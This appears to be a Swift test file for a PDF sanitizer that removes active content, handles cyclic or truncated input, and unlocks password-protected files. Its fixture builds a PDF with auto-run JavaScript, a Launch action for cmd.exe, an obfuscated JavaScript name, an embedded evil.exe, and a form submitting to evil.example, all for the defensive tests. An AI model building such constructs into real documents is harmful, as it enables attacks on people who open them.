import Foundation
import Inspection
import TestSupport
import Testing

@Suite struct PDFRebuildingTests {
    /// A document with everything that acts by itself.
    private static let active = pdf([
        "<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /AA << /WC 4 0 R >> /Names << /JavaScript << /Names [(a) 4 0 R] >> "
            + "/EmbeddedFiles << /Names [(e) 6 0 R] >> >> /AcroForm << /Fields [8 0 R] /XFA 9 0 R >> >>",
        "<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] /Annots [5 0 R 7 0 R 8 0 R 10 0 R] /AA << /O 4 0 R >> >>",
        "<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
        "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (cmd.exe) /Next << /S /#4AavaScript /JS (x) >> >> >>",
        "<< /Type /Filespec /F (evil.exe) /EF << /F 9 0 R >> >>",
        "<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 6 0 R >>",
        "<< /Type /Annot /Subtype /Widget /FT /Tx /T (f) /Rect [0 0 9 9] /A << /S /SubmitForm /F (https://evil.example/) >> "
            + "/AA << /K 4 0 R >> >>",
        "<< /Length 4 >>\nstream\nXFA!\nendstream",
        "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://good.example/) >> >>",
    ])

    static func pdf(_ objects: [String]) -> [UInt8] {
        var bytes = Array("%PDF-1.7\n".utf8)
        for (index, object) in objects.enumerated() { bytes += Array("\(index + 1) 0 obj\n\(object)\nendobj\n".utf8) }
        return bytes + Array("trailer\n<< /Size \(objects.count + 1) /Root 1 0 R >>\n%%EOF\n".utf8)
    }

    @Test func `what acts by itself is gone, and links stay`() throws {
        let rebuilt = try #require(PDFRebuilding.rebuild(Self.active[...], bytesMax: 1 << 20))
        let text = String(decoding: rebuilt, as: UTF8.self)
        for word in [
            "JavaScript", "/JS", "OpenAction", "/AA", "Launch", "cmd.exe", "evil", "EmbeddedFiles", "FileAttachment",
            "XFA",
            "SubmitForm",
        ] {
            #expect(Data(Self.active).range(of: Data(word.utf8)) != nil, "the test would show nothing: \(word)")
            #expect(!text.contains(word), "\(word)")
        }
        #expect(text.contains("https://good.example/"))
        #expect(text.contains("/MediaBox"))
    }

    @Test func `a document that goes in circles, or is cut off, ends`() {
        let circle = Self.pdf(["<< /Type /Catalog /Pages 1 0 R /A 2 0 R >>", "[1 0 R 2 0 R << /X 2 0 R >>]"])
        _ = PDFRebuilding.rebuild(circle[...], bytesMax: 1 << 20)
        for count in stride(from: 0, to: Self.active.count, by: 11) {
            _ = PDFRebuilding.rebuild(Self.active.prefix(count), bytesMax: 1 << 20)
        }
        #expect(PDFRebuilding.rebuild(Array("no PDF".utf8)[...], bytesMax: 1 << 20) == nil)
        #expect(PDFRebuilding.rebuild(Self.active[...], bytesMax: 100) == nil)
    }

    @Test(.enabled(if: FileManager.default.isExecutableFile(atPath: "/usr/bin/qpdf")))
    func `a password is taken off where it is known`() throws {
        let folder = try TemporaryFolder("pdf")
        try Data(Self.active).write(to: URL(filePath: folder.path("a.pdf")))
        let process = Process()
        process.executableURL = URL(filePath: "/usr/bin/qpdf")
        process.arguments = [
            "--warning-exit-0", "--encrypt", "secret", "owner", "256", "--", folder.path("a.pdf"), folder.path("b.pdf"),
        ]
        process.standardError = FileHandle.nullDevice
        try process.run()
        process.waitUntilExit()
        let locked = [UInt8](try Data(contentsOf: URL(filePath: folder.path("b.pdf"))))
        #expect(PDFRebuilding.rebuild(locked[...], bytesMax: 1 << 20) == nil)
        var budget = UnlockingBudget(bytesMax: 1 << 20, hashes: 0)
        #expect(PDFUnlocking().unlock(locked[...], passwords: ["a", "b"], &budget) == .wrongPassword)
        guard
            case .opened(let open, password: "secret") = PDFUnlocking().unlock(
                locked[...],
                passwords: ["a", "secret"],
                &budget
            )
        else {
            Issue.record("the right password does not open it")
            return
        }
        #expect(PDFRebuilding.rebuild(open[...], bytesMax: 1 << 20) != nil)
    }
}
